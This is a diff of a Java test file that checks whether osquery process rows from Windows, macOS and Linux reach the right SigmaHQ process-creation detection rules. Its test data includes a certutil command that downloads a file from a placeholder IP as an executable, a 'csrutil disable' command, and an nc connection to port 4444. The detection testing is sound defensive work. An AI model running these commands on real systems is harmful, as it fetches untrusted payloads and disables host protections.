@@ -14,9 +14,10 @@ import org.junit.jupiter.api.Test;
 /**
  * osquery's scheduled query results, as event-model normalizes them, reach SigmaHQ's process_creation
  * rules of the host's system when the row says which system it is (Linux's audit process_events with
- * its {@code syscall}, macOS's es_process_events, Windows's process_etw_events), and Linux's
- * socket_events connects reach network_connection. Rows of the tables every system has (processes,
- * process_open_sockets, file_events) and forks, exits and binds reach none of these. The rows are
+ * its {@code syscall}, macOS's es_process_events, Windows's process_etw_events, a processes row with
+ * a drive in its path or macOS's own columns), and Linux's socket_events connects reach
+ * network_connection. Rows that do not say their system (a Linux processes row, process_open_sockets)
+ * and forks, exits and binds reach none of these. The rows are
  * written as osqueryd's filesystem logger writes them (osquery's table specs for the columns of
  * {@code SELECT *}). Without the corpus ({@code SOCAAS_CORPUS}) the tests are skipped.
  */
@@ -98,6 +99,69 @@ class OsqueryLogsourcesTest {
                  "remote_address":"203.0.113.9","local_port":"51514","remote_port":"4444","path":"/usr/bin/nc",
                  "state":"ESTABLISHED","net_namespace":"4026531992"}""");
         assertThat(routes(socket)).isEmpty();
+    }
+
+    /**
+     * A row of the processes table on Windows, {@code SELECT *}: the columns every system has and
+     * Windows's own (osquery's specs/processes.table); osquery reports no user ids there.
+     */
+    private static String windowsProcessesRow(String path, String cmdline) {
+        return row("pack_incident-response_processes", "added", """
+                {"pid":"6312","name":"certutil.exe","path":"%s","cmdline":"%s","state":"STILL_ACTIVE",
+                 "cwd":"C:\\\\Users\\\\dana\\\\","root":"","uid":"-1","gid":"-1","euid":"-1","egid":"-1","suid":"-1",
+                 "sgid":"-1","on_disk":"1","wired_size":"14872","resident_size":"3018752","total_size":"6299648",
+                 "user_time":"15","system_time":"31","disk_bytes_read":"120832","disk_bytes_written":"0",
+                 "start_time":"1772359190","parent":"4120","pgroup":"-1","threads":"4","nice":"32",
+                 "elevated_token":"0","secure_process":"0","protection_type":"","virtual_process":"0",
+                 "elapsed_time":"8","handle_count":"198","percent_processor_time":"468750"}""".formatted(path.replace("\\", "\\\\"), cmdline));
+    }
+
+    /** A row of the processes table on macOS, {@code SELECT *}, with macOS's own columns when asked. */
+    private static String macProcessesRow(String path, String cmdline, boolean macColumns) {
+        return row("pack_incident-response_processes", "added", """
+                {"pid":"7311","name":"csrutil","path":"%s","cmdline":"%s","state":"R","cwd":"/Users/dana",
+                 "root":"","uid":"0","gid":"0","euid":"0","egid":"0","suid":"0","sgid":"0","on_disk":"1",
+                 "wired_size":"0","resident_size":"1654784","total_size":"4194304","user_time":"1","system_time":"2",
+                 "disk_bytes_read":"0","disk_bytes_written":"0","start_time":"1772359190","parent":"7290",
+                 "pgroup":"7311","threads":"1","nice":"0"%s}""".formatted(
+                        path,
+                        cmdline,
+                        macColumns
+                                ? ",\"upid\":\"100311\",\"uppid\":\"100290\",\"cpu_type\":\"16777228\",\"cpu_subtype\":\"2\",\"translated\":\"0\""
+                                : ""));
+    }
+
+    @Test
+    void aProcessesRowIsAProcessCreationOfTheSystemItsPathOrColumnsShow() {
+        assumeCorpus();
+        String certutil = id("rules/windows/process_creation/proc_creation_win_certutil_download.yml");
+        String download = "certutil.exe -urlcache -split -f http://198.51.100.9/a.txt a.exe";
+        // a drive letter: no Unix path has one
+        String windows = windowsProcessesRow("C:\\Windows\\System32\\certutil.exe", download);
+        assertThat(routes(windows))
+                .contains(WINDOWS_PROCESS_CREATION)
+                .doesNotContain(LINUX_PROCESS_CREATION, MACOS_PROCESS_CREATION);
+        assertThat(firedJson(windows)).contains(certutil);
+        assertThat(firedJson(
+                        windowsProcessesRow("C:\\Windows\\System32\\certutil.exe", "certutil.exe -hashfile a.exe")))
+                .doesNotContain(certutil);
+        // a process whose path osquery could not read says no system
+        assertThat(routes(windowsProcessesRow("", download))).doesNotContain(WINDOWS_PROCESS_CREATION);
+
+        // macOS's own columns
+        String csrutil = id("rules/macos/process_creation/proc_creation_macos_csrutil_disable.yml");
+        String mac = macProcessesRow("/usr/bin/csrutil", "csrutil disable", true);
+        assertThat(routes(mac))
+                .contains(MACOS_PROCESS_CREATION)
+                .doesNotContain(LINUX_PROCESS_CREATION, WINDOWS_PROCESS_CREATION);
+        assertThat(firedJson(mac)).contains(csrutil);
+        assertThat(firedJson(macProcessesRow("/usr/bin/csrutil", "csrutil status", true)))
+                .doesNotContain(csrutil);
+        // without them (a Linux host's row, or a query that chose its columns) the row says no system
+        String unknown = macProcessesRow("/usr/bin/csrutil", "csrutil disable", false);
+        assertThat(routes(unknown))
+                .doesNotContain(LINUX_PROCESS_CREATION, MACOS_PROCESS_CREATION, WINDOWS_PROCESS_CREATION);
+        assertThat(firedJson(unknown)).doesNotContain(csrutil);
     }
 
     private static String socketEvent(String action, String path, String remote, String port) {
